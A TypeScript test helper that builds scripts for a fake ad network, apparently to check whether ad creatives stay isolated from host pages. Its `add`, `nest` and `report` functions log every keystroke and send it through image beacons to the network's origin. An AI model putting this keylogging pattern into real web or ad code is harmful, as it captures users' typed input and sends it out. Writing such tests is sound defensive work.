/** The functions that a script of the fake ad network can use. */
export interface Kit {
  /** The origin of the fake network. */
  readonly origin: string;
  /** Returns the elements to fill with creatives: those with a numeric `data-banner-id`. */
  containers(): HTMLElement[];
  /** Puts a creative into a container. The default size depends on the container. */
  fill(container: HTMLElement, ...size: number[]): HTMLElement;
  /** Fills every container. */
  fillAll(): HTMLElement[];
  /**
   * Fills every container with a nested frame, as most networks do.
   * @param address the address of the frame; by default, a page with a creative
   */
  frameAll(address?: string): HTMLIFrameElement[];
  /**
   * Adds an element with content to the document, and reports every key that the document receives
   * from then on.
   */
  add(name: string, ...content: (string | Node)[]): HTMLElement;
  /**
   * Adds a frame with a text field to the document. The frame has separate built-ins and a separate
   * origin. The frame reports every key that it receives.
   * @param script runs in the frame, and can use `report` and `field`
   */
  nest(script: string): void;
  /** Reports to the network's server something that a creative must not be able to learn. */
  report(what: string, value: unknown): void;
}

/** The code of a network's script. The function runs in the browser, so it can use only the kit. */
export type Play = (kit: Kit) => unknown;

/** Returns the source of the network's script. */
export const scriptOf = (play: Play): string => `(${play})((${makeKit})());`;

export const healthy: Play = (kit) => kit.frameAll();

/** Returns the functions from which the fake network scripts of tests are made. */
function makeKit(): Kit {
  const { currentScript } = document;
  const address = currentScript instanceof HTMLScriptElement ? currentScript.src : '';
  const { origin } = new URL(address);
  const TALL = ['104', '203', '302'];
  const idOf = (container: HTMLElement) => container.getAttribute('data-banner-id') ?? '';
  const sizeFor = (container: HTMLElement) => {
    if (TALL.includes(idOf(container))) return [300, 600];
    return innerWidth >= 728 && innerHeight < 100 ? [728, 90] : [300, 250];
  };

  const kit: Kit = {
    origin,
    containers: () =>
      [...document.querySelectorAll<HTMLElement>('[data-banner-id]')].filter((found) =>
        /^\d+$/.test(idOf(found)),
      ),
    fill(container, ...size) {
      const [width = 0, height = 0] = size.length > 0 ? size : sizeFor(container);
      const link = document.createElement('a');
      link.href = `${origin}/landing`;
      link.target = '_blank';
      const image = document.createElement('img');
      image.alt = `Creative ${idOf(container)}`;
      image.width = width;
      image.height = height;
      image.src = `${origin}/creative.svg?banner=${idOf(container)}&size=${width}x${height}`;
      link.append(image);
      container.replaceChildren(link);
      return container;
    },
    fillAll: () => kit.containers().map((container) => kit.fill(container)),
    frameAll: (address) =>
      kit.containers().map((container) => {
        const [width = 0, height = 0] = sizeFor(container);
        const frame = document.createElement('iframe');
        frame.width = `${width}`;
        frame.height = `${height}`;
        frame.style.border = '0';
        const query = `banner=${idOf(container)}&size=${width}x${height}`;
        const src = address ?? `${origin}/creative.html?${query}`;
        if (src) frame.src = src;
        container.replaceChildren(frame);
        return frame;
      }),
    add(name, ...content) {
      const element = document.createElement(name);
      element.append(...content);
      document.body.append(element);
      addEventListener('keydown', ({ key }) => kit.report('key', key));
      return element;
    },
    nest(script) {
      const frame = document.createElement('iframe');
      frame.width = frame.height = '20';
      const tools = `
        const field = document.querySelector('input');
        const report = (what, value) => { new Image().src = '${origin}/received?' + what + '=' + value; };
        addEventListener('keydown', ({ key }) => report('key', key));`;
      frame.srcdoc = `<input><script>${tools}${script}</${'script'}>`;
      document.body.append(frame);
    },
    report(what, value) {
      new Image().src = `${origin}/received?${what}=${encodeURIComponent(String(value))}`;
    },
  };
  return kit;
}
